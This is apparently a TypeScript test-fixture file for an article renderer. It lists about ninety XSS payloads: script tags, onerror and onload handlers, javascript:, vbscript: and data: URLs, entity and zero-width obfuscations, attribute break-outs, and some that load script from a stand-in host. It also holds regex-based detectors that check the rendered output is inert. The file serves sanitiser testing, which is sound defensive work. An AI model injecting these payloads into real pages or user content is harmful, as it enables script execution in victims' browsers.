/**
 * Inputs an editor might paste into an article: raw HTML, Markdown links and images with dangerous
 * schemes, obfuscations (entities, tabs, newlines, case, zero-width characters), attribute break-outs
 * and known mutation-XSS payloads. Every one of them must render to inert HTML. Shared by the
 * renderer's unit spec and the API e2e test.
 */
export const XSS_VECTORS: string[] = [
  // Raw HTML tags
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<a href="javascript:alert(1)">klik</a>',
  '<a href="&#106;avascript:alert(1)">klik</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">klik</a>',
  '<a href="jav&#x09;ascript:alert(1)">klik</a>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<base href="https://evil.example/">',
  '<link rel=import href="https://evil.example/x.html">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<div style="width: expression(alert(1))">x</div>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<table background="javascript:alert(1)"><td style="background:url(javascript:alert(1))">x</td></table>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<a href="//evil.example">klik</a>',
  // Markdown links with dangerous schemes
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#x09;script:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](java&NewLine;script:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](\u200Bjavascript:alert(1))',
  '[x](java\u200Bscript:alert(1))',
  '[x](\uFEFFjavascript:alert(1))',
  '[x](%6A%61%76%61%73%63%72%69%70%74:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](VBScript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](//evil.example)',
  '[x](\\\\evil.example)',
  '[x](/\\evil.example)',
  // Markdown images
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](data:image/png;base64,iVBORw0KGgo=)',
  '![x](//evil.example/x.png)',
  '![x" onerror="alert(1)](https://a.nl/x.png)',
  '![x](https://a.nl/x.png" onerror="alert(1))',
  // Reference-style links and autolinks
  '[x][a]\n\n[a]: javascript:alert(1)',
  '[x][a]\n\n[a]: <javascript:alert(1)> "titel"',
  '[x][a]\n\n[a]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '![x][img]\n\n[img]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<JAVASCRIPT:alert(1)>',
  '<vbscript:msgbox(1)>',
  '<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>',
  'javascript:alert(1)',
  'https://evil.example/?q=<script>alert(1)</script>',
  // Attribute break-outs
  '[x](https://a.nl" onmouseover="alert(1))',
  '[x](https://a.nl \'title" onclick="alert(1)\')',
  '[x](https://a.nl "title\' onclick=\'alert(1)")',
  '[x"><img src=x onerror=alert(1)>](https://a.nl)',
  '[x](https://a.nl/"><script>alert(1)</script>)',
  // Markdown inside HTML / HTML inside Markdown
  '<div onclick="alert(1)">\n\n[x](javascript:alert(1))\n\n</div>',
  '**<img src=x onerror=alert(1)>**',
  '- <svg onload=alert(1)>\n- [x](javascript:alert(1))',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '> <iframe src=javascript:alert(1)>',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '`<script>alert(1)</script>`',
  '# <script>alert(1)</script>',
  '<<script>script>alert(1)<</script>/script>',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>',
];

const DANGEROUS_TAG = /<\s*\/?\s*(script|iframe|object|embed|style|svg|math|form|meta|base|link|body|details)\b/i;
const DANGEROUS_URL = /^(javascript:|vbscript:|data:|\/\/)/i;

const NAMED_ENTITIES: Record<string, string> = {
  quot: '"',
  amp: '&',
  lt: '<',
  gt: '>',
  apos: "'",
  colon: ':',
  tab: '\t',
  newline: '\n',
};

function decodeEntities(value: string): string {
  // Browsers also accept numeric references without the trailing semicolon.
  return value.replace(/&(#x[0-9a-f]+|#[0-9]+|[a-z]+);?/gi, (match, ref: string) => {
    if (ref[0] === '#') {
      const code = ref[1] === 'x' || ref[1] === 'X' ? parseInt(ref.slice(2), 16) : parseInt(ref.slice(1), 10);
      return Number.isFinite(code) && code <= 0x10ffff ? String.fromCodePoint(code) : match;
    }
    return NAMED_ENTITIES[ref.toLowerCase()] ?? match;
  });
}

/** Whitespace, C0/C1 control and zero-width characters browsers ignore in a URL's scheme. */
function stripIgnorable(value: string): string {
  // eslint-disable-next-line no-control-regex -- naming the control characters is the point here
  return value.replace(/[\s\u0000-\u001f\u007f-\u009f\u200b-\u200d\u2060\ufeff]/g, '');
}

interface ParsedTag {
  name: string;
  /** the tag's source without its quoted attribute values (so escaped text in a title is not an attribute) */
  skeleton: string;
  attributes: { name: string; value: string }[];
}

export function parseTags(html: string): ParsedTag[] {
  const tags: ParsedTag[] = [];
  for (const [source] of html.matchAll(/<[^>]+>/g)) {
    const name = /^<\s*\/?\s*([a-z0-9-]*)/i.exec(source)?.[1]?.toLowerCase() ?? '';
    const attributes: ParsedTag['attributes'] = [];
    const body = source.replace(/^<\s*\/?\s*[a-z0-9-]*/i, '').replace(/\/?>$/, '');
    for (const m of body.matchAll(/([^\s"'=<>/]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+)))?/g)) {
      attributes.push({ name: m[1].toLowerCase(), value: m[2] ?? m[3] ?? m[4] ?? '' });
    }
    tags.push({ name, skeleton: source.replace(/"[^"]*"|'[^']*'/g, '""'), attributes });
  }
  return tags;
}

export function assertInert(html: string): void {
  const tag = DANGEROUS_TAG.exec(html);
  if (tag) throw new Error(`dangerous tag ${tag[0]} in: ${html}`);
  for (const parsed of parseTags(html)) {
    if (/\son[a-z]+\s*=/i.test(parsed.skeleton) || parsed.attributes.some((a) => a.name.startsWith('on'))) {
      throw new Error(`event handler attribute in ${parsed.skeleton} in: ${html}`);
    }
    for (const { name, value } of parsed.attributes) {
      if (name === 'href' || name === 'src' || name === 'action' || name === 'formaction' || name === 'xlink:href') {
        const url = stripIgnorable(decodeEntities(value));
        if (DANGEROUS_URL.test(url)) throw new Error(`dangerous ${name}="${value}" in: ${html}`);
      }
      if (name === 'style') {
        const css = decodeEntities(value).trim();
        const alignOnly = /^text-align\s*:\s*(left|right|center)\s*;?$/i.test(css);
        if (!((parsed.name === 'th' || parsed.name === 'td') && alignOnly)) {
          throw new Error(`style attribute on <${parsed.name}> in: ${html}`);
        }
      }
    }
  }
}
